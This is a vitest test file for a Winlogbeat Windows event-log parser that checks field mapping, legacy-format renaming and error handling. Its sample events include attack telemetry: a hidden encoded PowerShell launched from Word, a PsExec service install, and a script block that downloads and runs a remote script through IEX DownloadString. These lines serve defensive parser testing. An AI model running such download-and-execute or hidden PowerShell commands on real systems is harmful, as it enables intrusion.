import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { createSensorParser } from '../sensor-parser.js';
import { findParserDefinition } from '../registry.js';
import { testGuid } from '../test-support/conformance.js';
import { WinlogbeatParser } from './winlogbeat-parser.js';

const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url), 'utf8').split('\n').filter((l) => l !== '');
const ECS = fixture('winlogbeat-7-8.json');
const LEGACY = fixture('winlogbeat-6.json');
const parser = new WinlogbeatParser();
const messageOf = (text: string): Record<string, unknown> => {
  const outcome = parser.parse(text);
  if (!outcome.ok) throw new Error(outcome.reason);
  expect(outcome.messages).toHaveLength(1);
  return outcome.messages[0]!;
};

describe('Winlogbeat parser', () => {
  it('unfolds an ECS record, takes @timestamp and maps source onto the 5-tuple', () => {
    const line = ECS[1]!;
    expect(messageOf(line)).toEqual({
      timestamp: Date.UTC(2024, 2, 12, 9, 41, 2, 113),
      'agent.type': 'winlogbeat',
      'agent.version': '7.17.18',
      'agent.hostname': 'DC01',
      'agent.ephemeral_id': '6b4f1e29-3c1a-4d7e-9a50-2f1c7d8e9b01',
      'agent.id': '0d3e8f52-7a11-4c5b-b2d9-8e61f0c4a7d3',
      'agent.name': 'DC01',
      'ecs.version': '1.12.0',
      'host.name': 'DC01.corp.example',
      'event.code': 4625,
      'event.kind': 'event',
      'event.provider': 'Microsoft-Windows-Security-Auditing',
      'event.action': 'logon-failed',
      'event.category': ['authentication'],
      'event.type': ['start'],
      'event.outcome': 'failure',
      'event.module': 'security',
      'winlog.channel': 'Security',
      'winlog.event_id': 4625,
      'winlog.provider_name': 'Microsoft-Windows-Security-Auditing',
      'winlog.record_id': 9812361,
      'winlog.computer_name': 'DC01.corp.example',
      'winlog.keywords': ['Audit Failure'],
      'winlog.opcode': 'Info',
      'winlog.api': 'wineventlog',
      'winlog.task': 'Logon',
      'winlog.event_data.TargetUserName': 'administrator',
      'winlog.event_data.TargetDomainName': 'CORP',
      'winlog.event_data.Status': '0xc000006d',
      'winlog.event_data.SubStatus': '0xc000006a',
      'winlog.event_data.LogonType': '3',
      'winlog.event_data.LogonProcessName': 'NtLmSsp ',
      'winlog.event_data.AuthenticationPackageName': 'NTLM',
      'winlog.event_data.WorkstationName': 'KALI',
      'winlog.event_data.IpAddress': '185.220.101.45',
      'winlog.event_data.IpPort': '43190',
      'winlog.logon.type': 'Network',
      'winlog.logon.failure.reason': 'Unknown user name or bad password.',
      'winlog.logon.failure.status': 'This is either due to a bad username or authentication information',
      'winlog.logon.failure.sub_status': 'User logon with misspelled or bad password',
      ip_src_addr: '185.220.101.45',
      ip_src_port: 43190,
      'source.domain': 'KALI',
      'user.name': 'administrator',
      'user.domain': 'CORP',
      'log.level': 'information',
      message: 'An account failed to log on.',
      original_string: line,
    });
  });

  it('keeps the fields analysts query, across event types', () => {
    const [logon, , sysmon1, sysmon3, service, scriptBlock, wfp, process] = ECS.map(messageOf);
    expect(logon).toMatchObject({ 'winlog.event_id': 4624, 'event.code': 4624, 'user.name': 'alice', 'host.name': 'DC01.corp.example', 'host.ip': ['10.20.0.10', 'fe80::5d1:2c3b:9a7e:1f40'], 'host.os.build': '17763.5458', '@metadata.beat': 'winlogbeat', 'winlog.process.thread.id': 4112, 'related.ip': ['10.20.30.41'], ip_src_addr: '10.20.30.41', ip_src_port: 50110 });
    expect(logon!['message']).toContain('\n\tSource Network Address:\t10.20.30.41');
    expect(sysmon1).toMatchObject({ 'winlog.channel': 'Microsoft-Windows-Sysmon/Operational', 'process.parent.name': 'WINWORD.EXE', 'process.args': ['powershell.exe', '-nop', '-w', 'hidden', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'], 'process.hash.sha256': 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c', 'winlog.user.name': 'SYSTEM', 'winlog.event_data.Product': 'Microsoft® Windows® Operating System' });
    expect(sysmon1).not.toHaveProperty('ip_src_addr');
    expect(sysmon3).toMatchObject({ ip_src_addr: '10.20.30.77', ip_src_port: 50321, ip_dst_addr: '198.51.100.200', ip_dst_port: 443, protocol: 'tcp', 'network.protocol': 'https', 'network.direction': 'egress', 'source.domain': 'WS-0417.corp.example' });
    for (const moved of ['source.ip', 'source.port', 'destination.ip', 'destination.port', 'network.transport']) expect(sysmon3).not.toHaveProperty(moved);
    expect(service).toMatchObject({ 'winlog.event_id': 7045, 'winlog.event_data.ServiceName': 'PSEXESVC', 'winlog.event_data.ImagePath': '%SystemRoot%\\PSEXESVC.exe', 'winlog.user.identifier': 'S-1-5-21-3623811015-3361044348-30300820-500' });
    // 8.x writes the ids as strings; they become the numbers 6.x and 7.x write
    expect(scriptBlock).toMatchObject({ 'winlog.event_id': 4104, 'event.code': 4104, 'winlog.record_id': '88120', 'winlog.event_data.Path': '', 'powershell.file.script_block_text': "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.200/a.ps1')", 'log.level': 'warning' });
    // no ECS source/destination: the 5-tuple from the filtering platform's event data (protocol 6 = tcp)
    expect(wfp).toMatchObject({ ip_src_addr: '10.20.0.12', ip_src_port: 445, ip_dst_addr: '10.20.30.41', ip_dst_port: 50112, protocol: 'tcp', 'winlog.event_data.SourceAddress': '10.20.0.12', 'winlog.event_data.Protocol': '6' });
    expect(process).toMatchObject({ 'process.command_line': 'whoami /all', 'user.id': 'S-1-5-21-3623811015-3361044348-30300820-500', 'winlog.event_data.TargetUserName': '-' });
    expect(process).not.toHaveProperty('ip_src_addr');
  });

  it('reads the 6.x shape onto the 7.x names', () => {
    const [logon, service, sysmon3] = LEGACY.map(messageOf);
    expect(logon).toEqual({
      timestamp: Date.UTC(2019, 10, 7, 10, 2, 31),
      'beat.name': 'DC01',
      'beat.hostname': 'DC01',
      'beat.version': '6.8.23',
      'host.name': 'DC01',
      'winlog.computer_name': 'DC01.corp.example',
      'winlog.event_id': 4624,
      'event.code': 4624,
      'log.level': 'Information',
      'winlog.channel': 'Security',
      'winlog.provider_name': 'Microsoft-Windows-Security-Auditing',
      'winlog.provider_guid': '{54849625-5478-4994-A5BA-3E3B0328C30D}',
      'winlog.record_id': '1571023',
      'winlog.process.pid': 668,
      'winlog.process.thread.id': 3160,
      'winlog.opcode': 'Info',
      'winlog.task': 'Logon',
      'winlog.keywords': ['Audit Success'],
      'winlog.api': 'wineventlog',
      'winlog.version': 2,
      'winlog.event_data.SubjectUserSid': 'S-1-0-0',
      'winlog.event_data.SubjectUserName': '-',
      'winlog.event_data.TargetUserSid': 'S-1-5-21-3623811015-3361044348-30300820-1104',
      'winlog.event_data.TargetUserName': 'alice',
      'winlog.event_data.TargetDomainName': 'CORP',
      'winlog.event_data.TargetLogonId': '0x1bd9b3c',
      'winlog.event_data.LogonType': '3',
      'winlog.event_data.LogonProcessName': 'NtLmSsp ',
      'winlog.event_data.AuthenticationPackageName': 'NTLM',
      'winlog.event_data.WorkstationName': 'WS-0417',
      'winlog.event_data.IpAddress': '10.20.30.77',
      'winlog.event_data.IpPort': '51244',
      ip_src_addr: '10.20.30.77',
      ip_src_port: 51244,
      message: 'An account was successfully logged on.',
      original_string: LEGACY[0],
    });
    expect(service).toMatchObject({ 'winlog.event_id': 7036, 'winlog.channel': 'System', 'winlog.event_data.param1': 'Windows Update', 'user.name': 'SYSTEM', 'user.domain': 'NT AUTHORITY', 'winlog.user.identifier': 'S-1-5-18', 'winlog.user.type': 'Well Known Group' });
    expect(service).not.toHaveProperty('ip_src_addr');
    expect(sysmon3).toMatchObject({ ip_src_addr: '10.20.30.77', ip_src_port: 50321, ip_dst_addr: '198.51.100.200', ip_dst_port: 443, protocol: 'tcp', 'winlog.event_data.Image': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' });
    for (const old of ['event_id', 'computer_name', 'log_name', 'event_data.IpAddress', 'type', 'level']) for (const m of LEGACY.map(messageOf)) expect(m).not.toHaveProperty(old);
  });

  it('does not take "-" or a zero port from event data as an address', () => {
    const local = messageOf('{"@timestamp":"2024-03-12T09:40:10.784Z","winlog":{"event_id":4624,"event_data":{"IpAddress":"-","IpPort":"-"}}}');
    expect(local).not.toHaveProperty('ip_src_addr');
    const loopback = messageOf('{"@timestamp":"2024-03-12T09:40:10.784Z","winlog":{"event_id":4624,"event_data":{"IpAddress":"::1","IpPort":"0"}}}');
    expect(loopback['ip_src_addr']).toBe('::1');
    expect(loopback).not.toHaveProperty('ip_src_port');
  });

  it('rejects what it cannot read, with a reason', () => {
    expect(parser.parse('{"@timestamp":')).toMatchObject({ ok: false, reason: expect.stringMatching(/^invalid JSON: /) });
    expect(parser.parse('"event"')).toEqual({ ok: false, reason: 'Winlogbeat record is not a JSON object' });
    expect(parser.parse('{"winlog":{"event_id":4624}}')).toEqual({ ok: false, reason: 'Winlogbeat record has no @timestamp' });
    expect(parser.parse('{"@timestamp":"11/07/2019 10:02","event_id":4624}')).toEqual({ ok: false, reason: '@timestamp "11/07/2019 10:02" is not ISO 8601 with a zone' });
    expect(parser.parse('{"@timestamp":1573120951000,"event_id":4624}')).toMatchObject({ ok: false });
  });

  it('runs in the pipeline by its names; a pretty-printed record is one record', () => {
    for (const name of ['Winlogbeat', 'WindowsEvent', 'winlogbeat', 'metron.parsers.winlogbeat.WinlogbeatParser']) expect(findParserDefinition(name)?.id).toBe('winlogbeat');
    const sensor = createSensorParser('windows', { parserClassName: 'WindowsEvent' });
    const pretty = JSON.stringify(JSON.parse(ECS[3]!), null, 2);
    const result = sensor.parse(Buffer.from(pretty), { guid: testGuid(4) });
    expect(result.errors).toEqual([]);
    expect(result.messages[0]).toMatchObject({ 'source.type': 'windows', guid: testGuid(4)(0), 'winlog.event_id': 3, ip_dst_port: 443, original_string: pretty });
  });
});
